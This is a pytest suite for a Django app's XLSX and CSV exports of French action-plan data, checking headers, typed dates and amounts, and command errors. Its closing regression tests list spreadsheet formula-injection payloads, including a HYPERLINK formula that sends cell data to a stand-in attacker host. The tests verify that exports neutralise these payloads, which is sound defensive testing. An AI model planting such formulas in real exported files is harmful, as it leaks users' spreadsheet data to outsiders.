"""The XLSX workbook and the CSV files, read back with openpyxl and the csv module, against the demo projects."""

import csv
import io
from collections import Counter
from datetime import date, datetime, time
from decimal import Decimal

import pytest
from django.core.management import CommandError, call_command
from openpyxl import load_workbook

from maillage.actions.models import SECTIONS, Action, BudgetLine
from maillage.documents.registry import What, writer_for
from maillage.documents.tabular import section_header
from maillage.evaluation.models import Indicator, IndicatorTarget, IndicatorValue
from maillage.governance.models import Meeting
from maillage.partners.models import Organisation
from maillage.projects.models import Node, Project

pytestmark = pytest.mark.django_db

SHEETS = [
    "Arborescence",
    "Actions",
    "Partenaires",
    "Personnes",
    "Rôles",
    "Indicateurs",
    "Valeurs",
    "Budget",
    "Réunions",
]


def export(slug, format, what="project") -> bytes:
    project = Project.objects.get(slug=slug)
    return writer_for(format, What(what))(project, What(what))


def workbook(slug, what="project"):
    return load_workbook(io.BytesIO(export(slug, "xlsx", what)))


def records(sheet) -> list[dict]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


class TestWorkbook:
    def test_one_sheet_per_entity_with_bold_frozen_filtered_headers(self, demo_db):
        book = workbook("clermont-sud")
        assert book.sheetnames == SHEETS
        for sheet in book:
            assert sheet.freeze_panes == ("B2" if sheet.title == "Actions" else "A2"), sheet.title
            assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
            assert all(cell.font.bold for cell in sheet[1]), sheet.title
        actions = book["Actions"]
        assert actions.column_dimensions["C"].width > actions.column_dimensions["A"].width
        context = [cell for cell in actions[1] if cell.value == "Contexte"][0]
        assert actions.cell(2, context.column).alignment.wrap_text

    def test_actions_sheet_headers_are_stable_and_complete(self, demo_db):
        headers = [cell.value for cell in workbook("genas-pset-2")["Actions"][1]]
        assert headers[:12] == [
            "Référence",
            "Code",
            "Intitulé",
            "Statut",
            "Origine",
            "Priorité",
            "Participation des habitants",
            "Échelon",
            "Territoire",
            "Périodes",
            "Date de début",
            "Date de fin",
        ]
        assert headers[12:16] == ["Niveau 1 : Visée", "Niveau 2 : Objectif", "Niveau 3 : Sous-objectif", "Nœuds"]
        assert [section_header(name) for name in SECTIONS] == headers[16 : 16 + len(SECTIONS)]
        assert "Freins à lever" in headers and "Présentation de l'action" in headers
        assert headers[-6:] == [
            "Pilotes",
            "Structure pilote",
            "Élu·e référent·e",
            "Thèmes",
            "Partenaires",
            "Action parente",
        ]

    def test_genas_statuses_use_the_projects_own_labels(self, demo_db):
        rows = records(workbook("genas-pset-2")["Actions"])
        assert len(rows) == 142
        assert Counter(row["Statut"] for row in rows) == {
            "Terminée": 59,
            "En continu": 44,
            "Nouvelle": 32,
            "Reportée": 7,
        }
        observatory = next(row for row in rows if row["Intitulé"] == "Création de l'Observatoire de la Petite Enfance")
        assert observatory["Nœuds"] == "1.1.1"
        assert observatory["Niveau 1 : Visée"] == "Visée 1 Notre territoire cultive tous ses talents"
        assert (
            observatory["Niveau 3 : Sous-objectif"]
            == "1.1.1 Une action ciblée en direction du jeune enfant et de l'enfant"
        )
        assert any(row["Intitulé"].startswith("Élaboration d'un vade-mecum") for row in rows)

    def test_clermont_fiches_in_full(self, demo_db):
        book = workbook("clermont-sud")
        rows = records(book["Actions"])
        assert len(rows) == Action.objects.filter(project__slug="clermont-sud").count() == 47
        first = rows[0]
        action = Action.objects.get(project__slug="clermont-sud", ref="A1-01")
        assert (first["Référence"], first["Code"], first["Intitulé"]) == ("A1-01", action.code, action.title)
        assert first["Origine"] == "évolution d'une action existante"  # the project's own word
        assert first["Périodes"] == "2021 ; 2022"
        assert first["Contexte"] == action.context
        assert first["Échéancier"].startswith("2021 :\n")
        assert first["Thèmes"] == "Accès aux droits"
        assert "Clermont Auvergne Métropole (À solliciter)" in first["Partenaires"].split(" ; ")
        assert next(row for row in rows if row["Référence"] == "A1-05")["Intitulé"] == "Les actions « mobilité »"

        tree = records(book["Arborescence"])
        assert len(tree) == Node.objects.filter(project__slug="clermont-sud").count()
        roots = [row for row in tree if row["Profondeur"] == 1]
        assert sum(row["Actions avec les sous-niveaux"] for row in roots) >= 47
        assert all(isinstance(row["Actions rattachées"], int) for row in tree)

        roles = records(book["Rôles"])
        assert len(roles) == sum(
            action.partner_roles.count() for action in Action.objects.filter(project=action.project)
        )
        assert {"Référence": "A1-01", "Rôle": "À solliciter"}.items() <= roles[0].items()

        partners = records(book["Partenaires"])
        assert len(partners) == Organisation.objects.filter(project__slug="clermont-sud").count()

        indicators = records(book["Indicateurs"])
        assert len(indicators) == Indicator.objects.filter(action__project__slug="clermont-sud").count() == 338

    def test_indicator_values_and_targets_over_time_as_numbers(self, demo_db):
        project = Project.objects.get(slug="lyon-pst-villeurbanne")
        indicator = Indicator.objects.filter(action__project=project).exclude(values=None).first()
        IndicatorTarget.objects.create(indicator=indicator, year=2025, value=Decimal("120"))
        values = records(workbook(project.slug)["Valeurs"])
        measures = IndicatorValue.objects.filter(indicator__action__project=project)
        assert len([row for row in values if row["Nature"] == "Mesure"]) == measures.count() > 0
        target = next(row for row in values if row["Nature"] == "Cible")
        assert (target["Indicateur"], target["Période"], target["Valeur"]) == (indicator.title, "2025", 120)
        measured = [row["Valeur"] for row in values if row["Nature"] == "Mesure" and row["Valeur"] is not None]
        assert measured and all(isinstance(value, int | float) for value in measured)

    def test_budget_amounts_and_years_are_numbers_in_euros(self, demo_db):
        action = Action.objects.get(project__slug="clermont-sud", ref="A1-01")
        funder = Organisation.objects.filter(project=action.project).first()
        BudgetLine.objects.create(action=action, label="Tablettes", year=2022, amount=Decimal("1500.50"), funder=funder)
        BudgetLine.objects.create(action=action, nature="investment", kind="actual", amount=Decimal("8000"))
        sheet = workbook("clermont-sud")["Budget"]
        rows = records(sheet)
        assert rows[0] == {
            "Référence": "A1-01",
            "Action": action.title,
            "Libellé": "Tablettes",
            "Financeur": funder.name,
            "Année": 2022,
            "Nature": "Fonctionnement",
            "Prévu ou réalisé": "Prévisionnel",
            "Montant": 1500.5,
            "Unité": "euros",
        }
        assert (rows[1]["Année"], rows[1]["Nature"], rows[1]["Prévu ou réalisé"], rows[1]["Montant"]) == (
            None,
            "Investissement",
            "Réalisé",
            8000,
        )
        assert "€" in sheet["H2"].number_format
        assert sheet["H2"].data_type == "n" and sheet["E2"].data_type == "n"

    def test_meetings_with_real_dates_and_times(self, demo_db):
        book = workbook("lyon-pst-villeurbanne")
        rows = records(book["Réunions"])
        assert len(rows) == 3
        assert [row["Date"] for row in rows] == [
            datetime(2023, 6, 5),
            datetime(2023, 6, 30),
            datetime(2024, 9, 24),
        ]
        assert book["Réunions"]["A2"].number_format == "DD/MM/YYYY"
        assert (rows[2]["Heure de début"], rows[2]["Heure de fin"]) == (time(9, 0), time(12, 0))
        assert rows[1]["Instance"] == "Plénière partenariale"
        assert rows[1]["Décisions"].startswith("– 3 nouveaux axes identifiés")
        assert rows[1]["Actions concernées"].split(" ; ")[:2] == ["V-5-1", "V-5-2"]
        assert workbook("lyon-pst-villeurbanne", "meetings").sheetnames == ["Réunions"]

    def test_action_dates_are_real_dates(self, demo_db):
        action = Action.objects.filter(project__slug="lyon-pst-villeurbanne").exclude(end_date=None).first()
        row = next(
            row for row in records(workbook("lyon-pst-villeurbanne")["Actions"]) if row["Référence"] == action.ref
        )
        assert row["Date de fin"].date() == action.end_date

    def test_tables_is_the_same_workbook(self, demo_db):
        assert workbook("genas-pset-2", "tables").sheetnames == SHEETS

    def test_queries_do_not_grow_with_the_actions(self, demo_db, django_assert_max_num_queries):
        assert Action.objects.filter(project__slug="genas-pset-2").count() == 142
        with django_assert_max_num_queries(25):
            export("genas-pset-2", "xlsx")
        with django_assert_max_num_queries(25):
            export("clermont-sud", "xlsx")


class TestCsv:
    def test_french_excel_conventions(self, demo_db):
        content = export("clermont-sud", "csv")
        assert content.startswith(b"\xef\xbb\xbf")
        assert b"\r\n" in content
        rows = csv_rows(content)
        assert rows[0] == [cell.value for cell in workbook("clermont-sud")["Actions"][1]]
        assert rows[0][:3] == ["Référence", "Code", "Intitulé"]
        assert len(rows) == 48
        assert all(len(row) == len(rows[0]) for row in rows)
        first = dict(zip(rows[0], rows[1], strict=True))
        action = Action.objects.get(project__slug="clermont-sud", ref="A1-01")
        assert first["Contexte"] == action.context  # multi-line texts survive the quoting
        assert first["Périodes"] == "2021 ; 2022"
        assert "Les actions « mobilité »" in content.decode("utf-8-sig")

    def test_genas_statuses(self, demo_db):
        rows = csv_rows(export("genas-pset-2", "csv"))
        assert Counter(row[3] for row in rows[1:])["Terminée"] == 59

    def test_dates_in_french(self, demo_db):
        action = Action.objects.filter(project__slug="lyon-pst-villeurbanne").exclude(end_date=None).first()
        rows = csv_rows(export("lyon-pst-villeurbanne", "csv"))
        row = dict(zip(rows[0], next(row for row in rows if row[0] == action.ref), strict=True))
        assert row["Date de fin"] == action.end_date.strftime("%d/%m/%Y")

    def test_meetings(self, demo_db):
        rows = csv_rows(export("lyon-pst-villeurbanne", "csv", "meetings"))
        assert rows[0][:5] == ["Date", "Heure de début", "Heure de fin", "Instance", "Intitulé"]
        assert [row[:3] for row in rows[1:]] == [
            ["05/06/2023", "", ""],
            ["30/06/2023", "", ""],
            ["24/09/2024", "09:00", "12:00"],
        ]
        assert len(rows) - 1 == Meeting.objects.filter(project__slug="lyon-pst-villeurbanne").count()


class TestCommandLine:
    def test_writes_the_workbook(self, demo_db, tmp_path):
        target = tmp_path / "genas.xlsx"
        call_command("export", "genas-pset-2", "--format", "xlsx", "--what", "project", "-o", str(target))
        assert load_workbook(target)["Actions"].max_row == 143

    def test_unknown_project(self, demo_db, tmp_path):
        target = tmp_path / "x.xlsx"
        with pytest.raises(CommandError, match="Projet « inconnu » introuvable"):
            call_command("export", "inconnu", "--format", "xlsx", "-o", str(target))
        assert not target.exists()

    def test_unsupported_document_for_the_format(self, demo_db, tmp_path):
        target = tmp_path / "x.csv"
        with pytest.raises(CommandError, match="Le format « csv » ne produit pas le document « tree »"):
            call_command("export", "genas-pset-2", "--format", "csv", "--what", "tree", "-o", str(target))
        with pytest.raises(CommandError, match="ne produit pas le document « panorama »"):
            call_command("export", "genas-pset-2", "--format", "ics", "--what", "panorama", "-o", str(target))
        assert not target.exists()

    def test_unknown_action_ref(self, demo_db, tmp_path):
        target = tmp_path / "x.xlsx"
        with pytest.raises(CommandError, match="Fiche action « Z9-99 » introuvable"):
            call_command("export", "clermont-sud", "--format", "xlsx", "--what", "action:Z9-99", "-o", str(target))
        assert not target.exists()


def test_dates_stay_dates_in_the_tables(demo_db):
    """A guard on the shared conversion: a date never reaches a sheet as text."""
    action = Action.objects.get(project__slug="clermont-sud", ref="A1-01")
    action.start_date = date(2021, 1, 4)
    action.save()
    sheet = workbook("clermont-sud")["Actions"]
    assert sheet["K2"].is_date and sheet["K2"].number_format == "DD/MM/YYYY"


INJECTIONS = ['=HYPERLINK("http://attaquant.example/?d="&A2;"Cliquez")', "+33 1 23 45 67 89", "-2+3", "@SUM(A1:A9)"]


def _project_with_dangerous_text():
    from maillage.projects.tests.factories import ProjectFactory

    project = ProjectFactory()
    for n, title in enumerate(INJECTIONS):
        Action.objects.create(project=project, ref=f"X{n}", title=title, context="=1+1", position=n)
    return project


def test_finding_2_no_exported_xlsx_cell_is_a_formula(db):
    """Issue 16, finding 2: an action titled ``=HYPERLINK(…)`` went into the workbook as a live formula."""
    project = _project_with_dangerous_text()
    book = load_workbook(io.BytesIO(writer_for("xlsx", What("project"))(project, What("project"))))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    titles = [row["Intitulé"] for row in records(book["Actions"])]
    assert titles == INJECTIONS  # kept word for word, as text


def test_finding_2_csv_cells_that_a_spreadsheet_would_run_are_quoted(db):
    """Issue 16, finding 2: CSV cells starting with = + - @ went out raw and French Excel evaluated them."""
    project = _project_with_dangerous_text()
    rows = csv_rows(writer_for("csv", What("project"))(project, What("project")))
    title = rows[0].index("Intitulé")
    assert [row[title] for row in rows[1:]] == [f"'{text}" for text in INJECTIONS]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_quoted_csv_and_xlsx_cells_reimport_as_typed(db, tmp_path):
    project = _project_with_dangerous_text()
    for format in ("csv", "xlsx"):
        path = tmp_path / f"export.{format}"
        path.write_bytes(writer_for(format, What("project"))(project, What("project")))
        call_command("import", str(path), slug=f"copie-{format}", title="Copie")
        copy = Project.objects.get(slug=f"copie-{format}")
        assert list(copy.actions.order_by("ref").values_list("title", flat=True)) == INJECTIONS, format
        assert set(copy.actions.values_list("context", flat=True)) == {"=1+1"}, format
